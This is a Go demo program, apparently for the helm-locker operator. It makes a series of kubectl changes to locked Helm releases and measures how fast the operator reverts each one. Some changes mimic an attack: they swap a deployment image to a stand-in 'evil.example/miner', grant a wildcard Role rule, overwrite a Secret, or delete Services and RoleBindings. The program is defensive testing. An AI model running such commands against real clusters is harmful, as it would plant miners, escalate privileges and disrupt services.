package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/rancher/helm-locker/tests/cmd/demo/observe"
)

// tampering is one change to a locked object, as a person would make it.
type tampering struct {
	what string
	kind string
	name string
	args []string
}

func (t tampering) object(r release) observe.ID {
	return observe.ID{Kind: t.kind, Namespace: r.namespace, Name: t.name}
}

// patch returns the command for a JSON merge patch of an object.
func patch(r release, object, json string) []string {
	return []string{"kubectl", "-n", r.namespace, "patch", object, "--type=merge", "-p", json}
}

// edit returns the command for a JSON patch of an object.
func edit(r release, object, json string) []string {
	return []string{"kubectl", "-n", r.namespace, "patch", object, "--type=json", "-p", json}
}

func (d *demo) tamperWithShop(ctx context.Context) error {
	d.screen.act("Tamper with the release of Helm 3")
	kubectl := func(args ...string) []string { return append([]string{"kubectl", "-n", shop.namespace}, args...) }
	err := d.tamper(ctx, shop,
		tampering{what: "edit a ConfigMap key", kind: "ConfigMap", name: "shop",
			args: patch(shop, "configmap/shop", `{"data":{"greeting":"Closed"}}`)},
		tampering{what: "edit a Secret key", kind: "Secret", name: "shop",
			args: patch(shop, "secret/shop", `{"stringData":{"password":"`+secret+`"}}`)},
		tampering{what: "change an image", kind: "Deployment", name: "shop-web",
			args: kubectl("set", "image", "deployment/shop-web", "web=evil.example/miner")},
		tampering{what: "scale (/scale)", kind: "Deployment", name: "shop-web",
			args: kubectl("scale", "deployment/shop-web", "--replicas=0")},
		tampering{what: "delete a Service", kind: "Service", name: "shop-web", args: kubectl("delete", "service/shop-web")},
		tampering{what: "remove a label", kind: "ServiceAccount", name: "shop",
			args: kubectl("label", "serviceaccount/shop", "app.kubernetes.io/part-of-")},
		tampering{what: "rename a port", kind: "Service", name: "shop-web",
			args: edit(shop, "service/shop-web", `[{"op":"replace","path":"/spec/ports/0/name","value":"web"}]`)},
		tampering{what: "strip Helm's ownership label", kind: "Ingress", name: "shop",
			args: kubectl("label", "ingress/shop", "app.kubernetes.io/managed-by-")},
		tampering{what: "raise an autoscaler's maximum", kind: "HorizontalPodAutoscaler", name: "shop-worker",
			args: patch(shop, "hpa/shop-worker", `{"spec":{"maxReplicas":100}}`)},
	)
	if err != nil {
		return err
	}
	// The status follows the reverts within moments.
	if err := d.await(ctx, shop, "jsonpath={.status.recentDrift[0].object.kind}=HorizontalPodAutoscaler"); err != nil {
		return err
	}
	return d.history(ctx, shop)
}

func (d *demo) tamperWithBakery(ctx context.Context) error {
	d.screen.act("Tamper with the release of Helm 4 (server-side apply)")
	kubectl := func(args ...string) []string { return append([]string{"kubectl", "-n", bakery.namespace}, args...) }
	return d.tamper(ctx, bakery,
		tampering{what: "edit a custom resource", kind: "Oven", name: "bakery",
			args: patch(bakery, "oven/bakery", `{"spec":{"temperature":900}}`)},
		tampering{what: "add a rule to a Role", kind: "Role", name: "bakery", args: edit(bakery, "role/bakery",
			`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`)},
		tampering{what: "delete a RoleBinding", kind: "RoleBinding", name: "bakery",
			args: kubectl("delete", "rolebinding/bakery")},
		tampering{what: "change a port's number", kind: "Service", name: "bakery",
			args: edit(bakery, "service/bakery", `[{"op":"replace","path":"/spec/ports/0/port","value":9999}]`)},
		tampering{what: "remove a ConfigMap key", kind: "ConfigMap", name: "bakery",
			args: edit(bakery, "configmap/bakery", `[{"op":"remove","path":"/data/recipe"}]`)},
		tampering{what: "strip Helm's ownership annotation", kind: "ServiceAccount", name: "bakery",
			args: kubectl("annotate", "serviceaccount/bakery", "meta.helm.sh/release-name-")},
	)
}

// tamper makes one change after another and waits, each time, until it is reverted.
func (d *demo) tamper(ctx context.Context, r release, tamperings ...tampering) error {
	for _, t := range tamperings {
		since := d.watch.Now()
		if _, err := d.shell.show(ctx, t.args...); err != nil {
			return err
		}
		if err := d.reverted(ctx, since, r, t); err != nil {
			return err
		}
	}
	return nil
}

// reverted waits until a change is reverted, and records its lifetime. A change that stays is a result, too; only the
// end of the demo is an error.
func (d *demo) reverted(ctx context.Context, since observe.Mark, r release, t tampering) error {
	wait, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	episode, err := d.watch.Restored(wait, since, t.object(r))
	if ctx.Err() != nil {
		return ctx.Err()
	}
	row := result{what: t.what, release: r.String(), ok: err == nil}
	if row.ok {
		if row.lived, err = d.lived(episode); err != nil {
			return err
		}
		row.note = "reverted in " + milliseconds(row.lived)
	} else {
		row.note = "not reverted within " + patience.String()
	}
	d.record(row, episode.ID.String()+"  "+summarize(episode.Changes))
	return nil
}

// lived returns the lifetime of a change, up to the arrival of the restored object. It begins at the API server's
// answer to the change or at its arrival on the watch, whichever is earlier: on a busy machine either can be late.
func (d *demo) lived(e observe.Episode) (time.Duration, error) {
	answered, err := d.audit.tampered(e.ID.Namespace, e.ID.Name)
	if err != nil {
		return 0, err
	}
	if e.Drifted.Before(answered) {
		return e.Restored.Sub(e.Drifted), nil
	}
	return e.Restored.Sub(answered), nil
}

// summarize names the first changes and counts the others.
func summarize(changes []string) string {
	const most = 2
	text := strings.Join(changes[:min(most, len(changes))], ", ")
	if more := len(changes) - most; more > 0 {
		text += fmt.Sprintf(", and %d more", more)
	}
	return text
}

// history shows the recent drift in a HelmRelease's status.
func (d *demo) history(ctx context.Context, r release) error {
	out, err := d.shell.show(ctx, "kubectl", "-n", operatorNamespace, "get", "hlr", r.name, "-o",
		`go-template={{range .status.recentDrift}}{{.action}} {{.object.kind}}/{{.object.name}} {{.paths}} {{.fieldManager}}{{"\n"}}{{end}}`)
	d.screen.output(strings.ReplaceAll(out, "<no value>", "-"))
	return err
}

// tamperDuringDowntime stops the operator, tampers, and starts it again.
func (d *demo) tamperDuringDowntime(ctx context.Context) error {
	d.screen.act("Tamper while the operator is down")
	d.screen.command("kill -TERM %1; wait %1")
	began := time.Now()
	if err := d.operator.Stop(); err != nil {
		return err
	}
	d.screen.line("operator", "ended with exit code 0 after "+milliseconds(time.Since(began)))
	since := d.watch.Now()
	tamperings := []tampering{
		{what: "edit while down", kind: "ConfigMap", name: "shop",
			args: patch(shop, "configmap/shop", `{"data":{"currency":"DOGE"}}`)},
		{what: "delete while down", kind: "Ingress", name: "shop",
			args: []string{"kubectl", "-n", shop.namespace, "delete", "ingress/shop"}},
		{what: "change an image while down", kind: "Deployment", name: "shop-worker",
			args: []string{"kubectl", "-n", shop.namespace, "set", "image", "deployment/shop-worker",
				"worker=evil.example/miner"}},
	}
	for _, t := range tamperings {
		if _, err := d.shell.show(ctx, t.args...); err != nil {
			return err
		}
	}
	started := time.Now()
	if err := d.startOperator(ctx); err != nil {
		return err
	}
	for _, t := range tamperings {
		if err := d.caughtUp(ctx, since, started, t); err != nil {
			return err
		}
	}
	return d.ready(ctx, shop, 1)
}

// caughtUp waits until a change made while the operator was down is reverted.
func (d *demo) caughtUp(ctx context.Context, since observe.Mark, started time.Time, t tampering) error {
	wait, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	episode, err := d.watch.Restored(wait, since, t.object(shop))
	if ctx.Err() != nil {
		return ctx.Err()
	}
	row := result{what: t.what, release: shop.String(), ok: err == nil && episode.Restored.After(started)}
	if row.ok {
		row.note = fmt.Sprintf("reverted %s after the operator's start", milliseconds(episode.Restored.Sub(started)))
	} else {
		row.note = "not reverted by the operator's start"
	}
	d.record(row, episode.ID.String())
	return nil
}
